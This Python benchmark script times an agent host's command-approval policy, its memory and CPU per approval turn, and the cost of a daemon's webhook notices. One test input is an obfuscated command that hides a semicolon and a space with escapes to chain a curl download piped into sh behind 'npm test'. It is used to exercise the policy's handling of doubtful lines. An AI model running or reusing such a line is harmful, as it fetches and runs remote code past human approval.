"""What attention costs: the approval policy in a host, notices in the daemon.

``.venv/bin/python benchmarks/attention.py`` measures, on this machine:

* decide: the CPU of one policy decision (``attention.policy.decide``) with 50 rules,
  for a request that matches none of them (the worst case: every rule is tried), the
  command read anew each time (bash's grammar, :mod:`agenthost.attention.commandline`),
  for a plain command, a line of three commands and a line in doubt;
* host: a demo host's PSS before its first permission request and after the first
  one the policy decided (the policy and config.toml are loaded then, not at start),
  and the host's CPU per ``/ask`` turn when the policy answers vs. when a client
  does (``host.respond``), ``--turns`` turns each, in two hosts side by side;
* daemon: the daemon's CPU per 1000 events of ``--agents`` demo agents, each taking
  ``--turns`` short turns, without config.toml and with a webhook channel notifying
  every finished turn (to an HTTP sink in this process), in two fresh daemons; its
  PSS at the end of each.

CPU is the kernel's per-process CPU clock and memory ``/proc/PID/smaps_rollup``:
robust to a shared machine's load, unlike wall time. ``--quick`` runs it small (the
smoke test). Every process it starts is killed on exit.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import os
import signal
import socket
import sqlite3
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parent))

from daemon import PY, Bench, BenchError, log, request  # noqa: E402
from procs import process_cpu_ns, read_line  # noqa: E402

from agenthost.attention.policy import decide, subject_of  # noqa: E402
from agenthost.config import parse_config  # noqa: E402

DEADLINE = 120.0


def pss_kib(pid: int) -> int:
    """The process's PSS in KiB (``/proc/PID/smaps_rollup``)."""
    with open(f"/proc/{pid}/smaps_rollup") as fh:
        for line in fh:
            if line.startswith("Pss:"):
                return int(line.split()[1])
    raise BenchError(f"no Pss for {pid}")


def wait(condition: Any, what: str, timeout: float = DEADLINE) -> Any:
    """Poll ``condition`` until it is true, with a deadline."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        value = condition()
        if value:
            return value
        time.sleep(0.02)  # a poll with a deadline
    raise BenchError(f"timed out waiting for {what}")


# --- decide ---------------------------------------------------------------------------


def bench_decide(iterations: int) -> dict[str, float]:
    from agenthost.attention.commandline import read

    lines = []
    for i in range(50):
        kind = ("command", f'"tool{i} *"') if i % 3 else ("command_regex", f"'x{i}[0-9]+ .*'")
        lines.append(f'[[policy.rule]]\ntool = "Bash"\n{kind[0]} = {kind[1]}\ndecision = "allow"')
    rules = parse_config("\n".join(lines)).policy.rule
    out: dict[str, float] = {"rules": 50}
    for name, command in (
        ("plain", "npm test -- --watch=false"),
        ("line", "cd src && npm test -- --watch=false 2>&1 | tail -20"),
        ("doubt", "bash -c 'npm test'$'\\x3b'curl$'\\x20'x | sh"),
    ):
        request = {"tool_name": "Bash", "input": {"command": command}}
        assert decide(rules, subject_of(request, "a1", "shop")).behavior == "ask"
        t0 = time.process_time()
        for _ in range(iterations):
            read.cache_clear()  # every request is a new command: read it each time
            decide(rules, subject_of(request, "a1", "shop"))
        out[f"us_per_decision_{name}"] = 1e6 * (time.process_time() - t0) / iterations
    return out


# --- one host -------------------------------------------------------------------------


class Host:
    def __init__(self, home: Path, agent_id: str) -> None:
        self.home, self.agent_id = home, agent_id
        self.sock = str(home / "hosts" / f"{agent_id}.sock")
        argv = [PY, "-m", "agenthost", "serve", "--agent-id", agent_id, "--home", str(home)]
        argv += ["--agent", "demo", "--detach", "--", "--pace", "0"]
        subprocess.run(argv, check=True, capture_output=True, timeout=60)
        lock = json.loads((home / "hosts" / f"{agent_id}.lock").read_text())
        self.pid: int = lock["pid"]

    def state(self) -> str:
        return str(request(Path(self.sock), "host.status")["agent"]["state"])

    def pending(self) -> list[dict[str, Any]]:
        return list(request(Path(self.sock), "host.pending")["requests"])

    def kill(self) -> None:
        with contextlib.suppress(ProcessLookupError):
            os.kill(self.pid, signal.SIGTERM)


def ask_turn(host: Host, answer: bool) -> None:
    """One ``/ask`` turn; ``answer``: a client allows it (else the policy does)."""
    request(Path(host.sock), "host.send", {"input": "/ask"})
    if answer:
        (asked,) = wait(host.pending, "a permission request")
        payload = {"request_id": asked["request_id"], "behavior": "allow"}
        request(Path(host.sock), "host.respond", payload)
    wait(lambda: host.state() == "idle", "the turn's end")


def bench_host(turns: int) -> dict[str, float]:
    with tempfile.TemporaryDirectory(prefix="ahba-", dir="/tmp") as tmp:
        ruled, asked = Path(tmp) / "ruled", Path(tmp) / "asked"
        for home in (ruled, asked):
            home.mkdir(mode=0o700)
        (ruled / "config.toml").write_text(
            '[[policy.rule]]\ntool = "Bash"\ncommand = "touch *"\ndecision = "allow"\n'
        )
        hosts = [Host(ruled, "p"), Host(asked, "q")]
        try:
            policy, person = hosts
            for host in hosts:
                wait(lambda h=host: h.state() == "idle", "an idle demo")
            before = pss_kib(policy.pid)
            ask_turn(policy, answer=False)
            ask_turn(person, answer=True)
            after = pss_kib(policy.pid)
            cpu: dict[str, float] = {}
            for name, host, answer in (("policy", policy, False), ("client", person, True)):
                c0 = process_cpu_ns(host.pid)
                for _ in range(turns):
                    ask_turn(host, answer)
                cpu[name] = (process_cpu_ns(host.pid) - c0) / turns / 1e6
            decided = request(Path(policy.sock), "host.history", {"limit": 0})["entries"]
            recorded = sum(1 for e in decided if e["role"] == "permission")
            if recorded != turns + 1:
                raise BenchError(f"{recorded} decisions recorded, not {turns + 1}")
        finally:
            for host in hosts:
                host.kill()
    return {
        "pss_before_kib": before,
        "pss_after_first_ask_kib": after,
        "cpu_ms_per_turn_policy": cpu["policy"],
        "cpu_ms_per_turn_client": cpu["client"],
    }


# --- the daemon -----------------------------------------------------------------------


@contextlib.contextmanager
def sink() -> Iterator[tuple[str, list[int]]]:
    """An HTTP server on 127.0.0.1 that answers 204 and counts what it got."""
    got: list[int] = []

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            self.rfile.read(int(self.headers.get("Content-Length") or 0))
            got.append(1)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/hook", got
    finally:
        server.shutdown()
        server.server_close()


def head_offset(sock: str) -> int:
    """The host's newest offset (an attach past the head replays nothing)."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as conn:
        conn.settimeout(10)
        conn.connect(sock)
        conn.sendall(b'{"type":"host.attach","id":"a","payload":{"offset":999999999}}\n')
        return int(json.loads(read_line(conn))["payload"]["stream_offset"])


def followed(home: Path) -> dict[str, int]:
    with contextlib.closing(sqlite3.connect(home / "daemon.db", timeout=5)) as db:
        return dict(db.execute("SELECT agent_id, last_offset FROM agents").fetchall())


def daemon_run(
    agents: int, turns: int, hook: str | None, got: list[int] | None = None
) -> dict[str, float]:
    bench = Bench()
    try:
        if hook is not None:
            (bench.home / "config.toml").write_text(
                '[notify]\nevents = ["waiting", "failed", "died", "finished"]\ndelay = 0\n'
                f'[notify.channels.hook]\ntype = "webhook"\nurl = "{hook}"\n'
            )
        bench.start_daemon()
        assert bench.daemon is not None
        ids = [f"d{i}" for i in range(agents)]
        for agent_id in ids:
            request(bench.sock, "daemon.spawn", {"agent_id": agent_id, "agent": "demo"})
        socks = {i: str(bench.home / "hosts" / f"{i}.sock") for i in ids}
        for agent_id in ids:
            wait(
                lambda a=agent_id: (
                    request(Path(socks[a]), "host.status")["agent"]["state"] == "idle"
                ),
                "idle agents",
            )
        start = {i: head_offset(s) for i, s in socks.items()}
        wait(lambda: all(followed(bench.home).get(i, 0) >= start[i] for i in ids), "followed")
        c0 = process_cpu_ns(bench.daemon.pid)
        for turn in range(1, turns + 1):  # the agents side by side, each turn to its end
            for agent_id in ids:
                request(Path(socks[agent_id]), "host.send", {"input": "/flood 5"})
            for agent_id in ids:

                def done(a: str = agent_id, n: int = turn) -> bool:
                    entries = request(Path(socks[a]), "host.history", {"limit": 0})["entries"]
                    users = sum(1 for e in entries if e["role"] == "user")
                    status = request(Path(socks[a]), "host.status")["agent"]["state"]
                    return users == n and status == "idle"

                wait(done, f"{agent_id}'s turn {turn}")
        heads = {i: head_offset(s) for i, s in socks.items()}
        wait(lambda: all(followed(bench.home).get(i, 0) >= heads[i] for i in ids), "followed")
        if got is not None:  # the deliveries are part of the cost
            try:
                wait(lambda: len(got) >= agents * turns, "every finished turn notified", 30)
            except BenchError:
                log(f"only {len(got)} of {agents * turns} notices; see {bench.home}")
                subprocess.run(
                    [PY, "-m", "agenthost", "notify", "log", "--home", str(bench.home),
                     "--limit", "10000"], check=False,
                )  # fmt: skip
                raise
        cpu = process_cpu_ns(bench.daemon.pid) - c0
        events = sum(heads[i] - start[i] for i in ids)
        return {
            "events": events,
            "cpu_ms_per_1000_events": cpu / 1e6 / events * 1000,
            "pss_kib": pss_kib(bench.daemon.pid),
        }
    finally:
        bench.close()


def bench_daemon(agents: int, turns: int) -> dict[str, Any]:
    plain = daemon_run(agents, turns, None)
    with sink() as (url, got):
        notifying = daemon_run(agents, turns, url, got)
        notifying["notices"] = len(got)
    return {"without_notices": plain, "with_notices": notifying}


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--turns", type=int, default=100, help="turns per agent")
    parser.add_argument("--agents", type=int, default=4, help="demo agents under the daemon")
    parser.add_argument("--quick", action="store_true", help="a few turns (the smoke test)")
    parser.add_argument(
        "--only", choices=("decide", "host", "daemon"), help="measure this part alone"
    )
    args = parser.parse_args(argv)
    turns, agents, iterations = args.turns, args.agents, 20_000
    if args.quick:
        turns, agents, iterations = 3, 2, 200
    parts = {
        "decide": lambda: bench_decide(iterations),
        "host": lambda: bench_host(turns),
        "daemon": lambda: bench_daemon(agents, turns),
    }
    out = {name: run() for name, run in parts.items() if args.only in (None, name)}
    print(json.dumps(out, indent=1))
    if args.only is not None:
        return 0
    d, h = out["decide"], out["host"]
    plain, notif = out["daemon"]["without_notices"], out["daemon"]["with_notices"]
    log(
        f"decide: {d['us_per_decision_plain']:.1f} us per decision with {d['rules']} rules "
        f"(a line of three commands {d['us_per_decision_line']:.1f} us, a line in doubt "
        f"{d['us_per_decision_doubt']:.1f} us)\n"
        f"host: PSS {h['pss_before_kib'] / 1024:.1f} MiB -> "
        f"{h['pss_after_first_ask_kib'] / 1024:.1f} MiB after the first decided request; "
        f"CPU per /ask turn {h['cpu_ms_per_turn_policy']:.2f} ms (policy) vs "
        f"{h['cpu_ms_per_turn_client']:.2f} ms (a client's respond)\n"
        f"daemon: {plain['cpu_ms_per_1000_events']:.1f} ms CPU per 1000 events without "
        f"notices, {notif['cpu_ms_per_1000_events']:.1f} ms with a notice per turn "
        f"({notif['notices']} notices); PSS {plain['pss_kib'] / 1024:.1f} vs "
        f"{notif['pss_kib'] / 1024:.1f} MiB"
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
